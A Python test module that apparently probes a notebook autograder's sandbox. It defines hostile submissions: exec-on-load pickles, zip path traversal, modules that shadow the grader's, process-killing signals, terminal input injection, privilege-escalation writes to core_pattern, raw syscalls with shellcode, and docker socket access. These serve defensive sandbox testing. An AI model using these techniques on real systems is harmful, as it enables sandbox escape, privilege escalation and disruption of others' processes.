"""Attacks on the machine: files outside the scratch folder, the network, other processes, trusted code."""

import io
import json
import pickle
import zipfile

from hostile.attack import WRONG, Attack, notebook

MARKER = "a file with the attack's token outside its scratch folder"
REACHED = "a listener on loopback, or on a unix or abstract socket, was reached"

_PICKLE = """
import pickle
class Boom:
    def __reduce__(self): return (exec, (f"open({WORLD['markers'] + '/' + WORLD['token']!r}, 'w').close()",))
boom = pickle.dumps(Boom())
"""


class _Boom:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (exec, (f"open({self.path!r}, 'w').close()",))


def _boom(world):
    return pickle.dumps(_Boom(f"{world['markers']}/{world['token']}"))


def _export_with_pickles(world):
    """An Otter export with a log, results and a submission full of pickles, and modules that shadow the grader's."""
    buffer = io.BytesIO()
    marker = f"open({world['markers'] + '/' + world['token']!r}, 'w').close()\nraise SystemExit(0)\n"
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("vault.ipynb", notebook([WRONG]))
        for name in (".OTTER_LOG", "results.pkl", "results/results.pickle", "__zip_filename__", "state.pkl"):
            archive.writestr(name, _boom(world))
        for name in (
            "otter/__init__.py", "adkit/__init__.py", "adkit.py", "numpy.py", "jax.py", "reference/__init__.py",
            "autograder/__init__.py", "sitecustomize.py", "conftest.py", "nbconvert.py", "IPython/__init__.py",
            "tests/q1.py", "otter_config.json", "setup.cfg", "pyproject.toml", "a.pth",
        ):  # fmt: skip
            archive.writestr(name, marker)
    return buffer.getvalue()


def _traversal(world):
    """A zip whose entries climb out of any folder they would be unpacked to."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("vault.ipynb", notebook([WRONG]))
        for prefix in ("../" * 12, "/", "..\\" * 12, "C:\\", "./.././../" * 5):
            archive.writestr(f"{prefix}{world['markers'].lstrip('/')}/{world['token']}", b"out")
            archive.writestr(f"{prefix}tmp/{world['token']}", b"out")
    return buffer.getvalue()


def _metadata_pickle(world):
    content = json.loads(notebook([WRONG]))
    content["metadata"]["otter"] = {
        "tests": {"q1": f"open({world['markers'] + '/' + world['token']!r}, 'w')"},
        "OK_FORMAT": False,
        "assignment_name": "vault",
    }
    content["metadata"]["kernelspec"] = {"name": "../../bin/sh", "display_name": "sh", "language": "bash"}
    content["cells"][0]["metadata"] = {"otter": {"ignore": True}, "tags": ["parameters", "otter_answer_cell"]}
    return json.dumps(content).encode()


ATTACKS = (
    Attack("writes-everywhere", "host", "writes markers into every folder there is", MARKER, '''
places = [WORLD["markers"], WORLD["course"], WORLD["repository"], "/tmp", "/dev/shm", "/var/tmp", "/run", "/", "/root", "/home", "/usr/lib", "/etc", os.path.dirname(np.__file__), sys.prefix, os.path.dirname(os.getcwd()), "/proc/self/root/tmp", "/proc/1/cwd/.."]
for place in places:
    for name in (WORLD["token"], "../" + WORLD["token"]):
        try: open(f"{place}/{name}", "w").write("x")
        except OSError: pass
        try: os.mkdir(f"{place}/{name}-folder")
        except OSError: pass
'''),
    Attack("overwrites-grades", "host", "overwrites, truncates, renames, chmods and deletes the secrets", "a canary file changed", '''
import shutil
for path in WORLD["secrets"]:
    for act in (lambda: open(path, "w").write("mine"), lambda: os.truncate(path, 0), lambda: os.rename(path, path + "x"), lambda: os.chmod(path, 0o777), lambda: os.unlink(path), lambda: os.utime(path, (0, 0)), lambda: os.setxattr(path, "user.x", b"1"), lambda: shutil.rmtree(os.path.dirname(path))):
        try: act()
        except Exception as error: print(type(error).__name__)
'''),
    Attack("tcp", "host", "connects to loopback over TCP, IPv4 and IPv6", REACHED, '''
import socket
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "0.0.0.0")):
    try:
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(0.3); s.connect((host, WORLD["tcp"])); s.sendall(WORLD["token"].encode())
    except Exception as error: print(type(error).__name__)
'''),
    Attack("udp-and-raw", "host", "sends datagrams: UDP, raw, packet, netlink, vsock, alg", REACHED, '''
import socket
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(WORLD["token"].encode(), ("127.0.0.1", WORLD["udp"]))
except Exception as error: print(type(error).__name__)
for family in range(0, 46):
    for kind in (1, 2, 3, 5, 10):
        try: print("socket!", family, kind, socket.socket(family, kind))
        except Exception: pass
'''),
    Attack("unix-sockets", "host", "connects to unix sockets, by path and abstract", REACHED, '''
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    for address in (WORLD["unix"], "\\0" + WORLD["abstract"], "\\0" + WORLD["abstract"] + "-dgram", "/run/docker.sock", "/var/run/docker.sock"):
        try:
            s = socket.socket(socket.AF_UNIX, kind); s.connect(address); s.send(WORLD["token"].encode())
        except Exception as error: pass
'''),
    Attack("datagrams-from-a-pair", "host", "sends from one end of a socket pair to an address: no socket, no connect", REACHED, '''
import socket
for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
    for address in ("\\0" + WORLD["abstract"] + "-dgram", "\\0" + WORLD["abstract"], WORLD["unix"] + "-dgram", WORLD["unix"], "/dev/log", "/run/systemd/notify"):
        try: socket.socketpair(socket.AF_UNIX, kind)[0].sendto(WORLD["token"].encode(), address)
        except Exception as error: print(kind, type(error).__name__)
'''),
    Attack("sockets-by-hand", "host", "makes sockets through io_uring, the 32-bit gate, x32 numbers and clone3", REACHED, '''
import ctypes, mmap, struct
libc = ctypes.CDLL(None, use_errno=True)
print([libc.syscall(number, 2, 1, 0) for number in (41, 0x40000000 | 41, 425)])
size = ctypes.create_string_buffer(256)
print(libc.syscall(425, 8, size), libc.syscall(435, size, 88))
code = bytes.fromhex("b867010000bb02000000b90100000031d2cd80c3")  # mov eax,359 (socket); int 0x80
page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE, prot=7)
page.write(code)
try: print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
except BaseException as error: print(type(error).__name__)
'''),
    Attack("signals", "host", "kills the grader, its supervisor and everyone else", "the batch ends, or a neighbour's score changes", '''
import signal
for pid in (*WORLD["pids"], os.getppid(), -1, 0, 1):
    for number in (0, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            if pid not in (0, -1) or number == 0: os.kill(pid, number)
        except Exception as error: print(type(error).__name__)
import ctypes
libc = ctypes.CDLL(None)
for pid in WORLD["pids"]:
    libc.syscall(234, pid, pid, 9); libc.syscall(424, libc.syscall(434, pid, 0), 9, 0, 0); libc.syscall(129, pid, 9, 0)
    libc.prlimit(pid, 0, (ctypes.c_ulong * 2)(0, 0), None)
    libc.setpriority(0, pid, 19)
'''),
    Attack("starts-programs", "host", "starts programs: subprocess, os.system, posix_spawn, execveat, a shell by ctypes", MARKER, '''
import subprocess, ctypes
target = WORLD["markers"] + "/" + WORLD["token"]
for act in (lambda: subprocess.run(["/bin/sh", "-c", "touch " + target]), lambda: os.system("touch " + target), lambda: os.posix_spawn("/bin/touch", ["touch", target], {}), lambda: ctypes.CDLL(None).system(("touch " + target).encode()), lambda: get_ipython().getoutput("touch " + target)):
    try: act()
    except BaseException as error: print(type(error).__name__)
# %%
!touch $WORLD["markers"]
# %%
%%bash
touch /tmp/HOSTILE
'''),
    Attack("becomes-root", "host", "asks for more rights: setuid, capabilities, setuid programs, user namespaces, core dumps", MARKER, '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.setuid(0), libc.setresuid(0, 0, 0), libc.setgroups(1, (ctypes.c_int * 1)(0)), libc.unshare(0x10000000))
for path in ("/proc/self/uid_map", "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/proc/self/setgroups", "/sys/fs/cgroup/cgroup.procs", "/proc/sysrq-trigger"):
    try: open(path, "w").write("|/bin/touch " + WORLD["markers"] + "/" + WORLD["token"]); print("wrote", path)
    except Exception as error: print(type(error).__name__)
try: open(f"{WORLD['markers']}/{WORLD['token']}", "w")
except Exception: pass
'''),
    Attack("pickles-for-otter", "host", "an export with pickles wherever stock Otter unpickles, and modules that shadow the grader's", MARKER, raw=_export_with_pickles, file="pickles-for-otter.zip"),
    Attack("path-traversal", "host", "a zip whose entries climb out of the folder they are unpacked to", MARKER, raw=_traversal, file="path-traversal.zip"),
    Attack("hostile-metadata", "host", "a notebook whose metadata names tests, a kernel and cells to be ignored", MARKER, raw=_metadata_pickle),
    Attack("pickles-through-the-channel", "host", "sends pickles as answers, errors and frames", MARKER, _PICKLE + '''
def twice(x):
    for fd in range(1, 12):
        try: os.write(fd, len(boom).to_bytes(4, "big") + boom)
        except OSError: pass
    return boom
def energy(x): raise ValueError(boom)
'''),
    Attack("descriptors-through-the-channel", "host", "sends open descriptors over the channel to the grader", "the grader's number of open descriptors grows", '''
import socket, array
here = os.open(".", os.O_RDONLY)
def twice(x):
    for fd in range(3, 12):
        try:
            s = socket.socket(fileno=os.dup(fd))
            s.sendmsg([b"\\0\\0\\0\\1N"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [here] * 100))])
        except OSError: pass
    return 0
'''),
    Attack("artefact-with-a-callback", "host", "an artefact with a Python callback and an unknown custom call", "the grader crashes, or a marker", '''
import jax, jax.numpy as jnp, adkit.tracing.export as artefact
def energy(x):
    return jax.pure_callback(lambda v: np.float64(7.0), jax.ShapeDtypeStruct((), np.float64), x)
real = artefact.export_plain
def forged(f, args, transform, static=(), leading=0):
    from jax import export
    exported = export.export(jax.jit(f), disabled_checks=[export.DisabledSafetyCheck.custom_call(name) for name in ("xla_ffi_python_cpu_callback", "xla_python_cpu_callback")])(*args)
    return {"artefacts": [bytes(exported.serialize())]}
artefact.export_plain = forged
''', deserves=1.0),
    Attack("artefact-corrupt", "host", "artefacts with flipped bytes, cut short, empty and doubled", "the grader crashes", '''
import random, adkit.tracing.export as artefact
real = artefact.export_plain
def forged(f, args, transform, static=(), leading=0):
    plain = real(f, args, transform, static, leading)
    chance = random.Random(repr(plain["artefacts"])[:50])
    first = bytearray(plain["artefacts"][0])
    for _ in range(30): first[chance.randrange(len(first))] ^= 1 << chance.randrange(8)
    return {"artefacts": [bytes(first)]}
artefact.export_plain = forged
'''),
    Attack("artefact-junk", "host", "replies to an export with junk of every kind", "the grader's own code fails", '''
import adkit.tracing.export as artefact
junk = iter([None, [], {"artefacts": 3}, {"artefacts": [None]}, {"artefacts": [b"", b""]}, {"artefacts": [b"x" * 5000000]}, {"artefacts": np.zeros(3)}] * 9)
def forged(*a, **k): return {"artefacts": next(junk)}
artefact.export_plain = forged
'''),
    Attack("artefact-huge-program", "host", "an artefact that is a hundred thousand operations, or allocates terabytes", "the grader's memory, or the batch", '''
import jax, jax.numpy as jnp
def energy(x):
    y = jnp.broadcast_to(x.sum(), (2**20, 2**20))
    return (y * 2).sum()
'''),
    Attack("device-ioctls", "host", "opens devices and terminals, pushes input into the grader's terminal", "text in the grader's terminal", '''
import fcntl, termios
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/fuse", "/dev/kvm", "/dev/net/tun"):
    try: fd = os.open(path, os.O_RDWR); print("opened", path)
    except OSError: pass
for fd in range(3):
    try:
        for c in "exit\\n": fcntl.ioctl(fd, termios.TIOCSTI, c)
    except OSError: pass
'''),
    Attack("signals-by-descriptors", "host", "has the kernel send SIGKILL and SIGSTOP to others when a descriptor of its own is ready", "the batch ends, or a neighbour's score changes", '''
import fcntl, signal, socket, struct
for pid in (*WORLD["pids"], os.getppid(), -1, 1):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for own in (lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, pid), lambda fd: fcntl.fcntl(fd, 15, struct.pack("ii", 1, pid)), lambda fd: fcntl.ioctl(fd, 0x8901, struct.pack("i", pid)), lambda fd: fcntl.ioctl(fd, 0x8902, struct.pack("i", pid))):
            a, b = socket.socketpair()
            try:
                fcntl.fcntl(a, 10, number); own(a.fileno()); fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK); b.send(b"x")
            except OSError as error: print(type(error).__name__)
'''),
    Attack("slows-others-down", "host", "binds the grader to one processor and to the lowest priority", "the grader may use fewer processors than before", '''
import ctypes, struct
libc = ctypes.CDLL(None)
for pid in WORLD["pids"]:
    for act in (lambda: os.sched_setaffinity(pid, {0}), lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)), lambda: libc.syscall(314, pid, struct.pack("IIQiIQQQ", 48, 5, 0, 19, 0, 0, 0, 0), 0)):
        try: act()
        except OSError as error: print(type(error).__name__)
'''),
    Attack("attributes-by-ioctl", "host", "changes attributes of all files that it can open, by ioctl, and freezes and trims their file system", "a file of the grader's has other attributes", '''
import fcntl, struct, adkit
numbers = [0x40086602, 0x40046602, 0x401c5820, 0x41009432, 0xc0045877, 0xc0185879, 0x800c6613, 0x40806685, 0x40049409, 0x4020940d, 0xc0189436, 0x5412, 0x8901]
for top in (os.path.dirname(adkit.__file__), WORLD["course"], os.getcwd()):
    for folder, _, names in os.walk(top):
        for name in [".", *names]:
            try: fd = os.open(os.path.join(folder, name), os.O_RDONLY)
            except OSError: continue
            for number in numbers:
                for padded in (number, number | 1 << 32):
                    try: fcntl.ioctl(fd, padded & 0xffffffff, struct.pack("l", 0x40) + bytes(120))
                    except (OSError, OverflowError): pass
            os.close(fd)
'''),
    Attack("steps-back", "host", "lets others go first, so that it waits for the processor without its time passing", "points, which only who can change its priority earns", '''
import ctypes
def twice(x): os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)); return 2 * x
def at_one(f, x): os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0)); os.nice(5); return f(x)
'''),
)  # fmt: skip
